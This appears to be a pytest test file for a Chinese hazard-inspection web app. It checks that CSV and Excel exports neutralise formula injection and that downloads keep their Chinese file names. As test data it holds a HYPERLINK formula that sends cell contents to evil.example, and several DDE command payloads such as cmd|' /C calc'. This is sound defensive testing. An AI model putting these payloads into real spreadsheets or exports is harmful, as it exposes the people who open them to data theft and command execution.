"""Every CSV and Excel export writes what users typed as text, never as a formula, and every
download keeps the document's Chinese name."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

from openpyxl import load_workbook
from sqlmodel import select

from inspection.auth.models import User
from inspection.downloads import content_disposition
from inspection.downloads import safe_cell
from inspection.enterprises.models import Enterprise
from inspection.hazards.models import Hazard
from inspection.hazards.models import HazardEvent

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_starts_are_neutralised():
    for start in STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("安全") == "安全"
    assert safe_cell(12.5) == 12.5


def _hostile_hazard(world, make):
    inspection = make.inspection(world.ours, world.inspector)
    hazard = make.hazard(inspection, world.inspector)
    with make.session() as s:
        row = s.get(Hazard, hazard.id)
        for column in ("title", "location", "basis", "responsible_person"):
            setattr(row, column, f"{HOSTILE}{column}")
        # Within each column's length, as the database (PostgreSQL) holds it.
        row.number = "=2+5+cmd|' /C calc'!A0"
        row.category = "+cmd|'/C calc'!A"
        row.source = "@SUM(1+1)*cmd|'/C'"
        s.get(Enterprise, world.ours.id).name = "-2+3+cmd|' /C calc'!A0"
        s.commit()
    return hazard


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _assert_text_only(rows: list[list], expected_hostile: int) -> None:
    data = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
    assert not [cell for cell in data if cell.startswith(STARTS)]
    assert sum(1 for cell in data if cell.startswith("'") and cell[1:].startswith(STARTS)) >= (
        expected_hostile
    )


def test_the_ledger_csv_writes_every_typed_column_as_text(world, make, login):
    _hostile_hazard(world, make)
    body = login(world.supervisor).get("/hazards/export.csv").data
    rows = _csv_cells(body)
    # number, enterprise, title, category, location, source, basis, person responsible
    _assert_text_only(rows, 8)


def test_the_ledger_xlsx_has_no_formula_in_any_cell(world, make, login):
    _hostile_hazard(world, make)
    body = login(world.supervisor).get("/hazards/export.xlsx").data
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert f"{HOSTILE}title" in values  # kept exactly as typed, as text
    assert "-2+3+cmd|' /C calc'!A0" in values


def test_the_bulk_export_writes_text(world, make, login):
    hazard = _hostile_hazard(world, make)
    answer = login(world.inspector).post(
        "/hazards/bulk", data={"action": "export", "scope": "selected", "hazard": [str(hazard.id)]}
    )
    _assert_text_only(_csv_cells(answer.data), 8)


def test_the_history_csv_writes_text(world, make, login):
    hazard = _hostile_hazard(world, make)
    with make.session() as s:
        s.get(User, world.inspector.id).display_name = "=1+2"
        for event in s.exec(select(HazardEvent).where(HazardEvent.hazard_id == hazard.id)):
            event.comment = HOSTILE
        s.commit()
    answer = login(world.supervisor).get(f"/hazards/{hazard.id}/history.csv")
    rows = _csv_cells(answer.data)
    _assert_text_only(rows, 2)
    assert "'=1+2" in rows[1]


def test_the_security_log_exports_write_text(world, make, login, client):
    client.post(
        "/login",
        data={"username": "=cmd|' /C calc'!A0", "password": "x"},
        headers={"User-Agent": "+SUM(1;2)"},
    )
    # A park's admin sees the park's log; the bureau the whole system's: use a park's failure.
    client.post(
        "/login", data={"username": "inspector", "password": "x"}, headers={"User-Agent": "@x"}
    )
    admin = login(world.admin)
    rows = _csv_cells(admin.get("/security-log/export.csv").data)
    _assert_text_only(rows, 1)
    body = admin.get("/security-log/export.xlsx").data
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and not [cell for cell in cells if cell.data_type == "f"]
    assert "@x" in [cell.value for cell in cells]


def test_download_names_keep_their_chinese(world, make, login):
    header = content_disposition("青开安环整改〔2026〕9号.pdf", inline=True)
    assert header.startswith("inline; filename=\"2026-9.pdf\"; filename*=UTF-8''")
    assert unquote(header.split("UTF-8''")[1]) == "青开安环整改〔2026〕9号.pdf"
    answer = login(world.supervisor).get(
        "/hazards/export.xlsx?found_from=2026-11-01&found_to=2026-11-30"
    )
    disposition = answer.headers["Content-Disposition"]
    assert unquote(disposition.split("UTF-8''")[1]) == "隐患台账-2026年11月.xlsx"


def test_a_notice_pdf_is_named_by_its_number(world, make, login):
    inspection = make.inspection(world.ours, world.inspector)
    make.hazard(inspection, world.inspector)
    notice = make.issue(inspection, world.inspector)
    answer = login(world.inspector).get(f"/notices/{notice.id}/pdf")
    assert answer.status_code == 200
    name = unquote(answer.headers["Content-Disposition"].split("UTF-8''")[1])
    assert name == f"{notice.number}.pdf" and "整改" in name
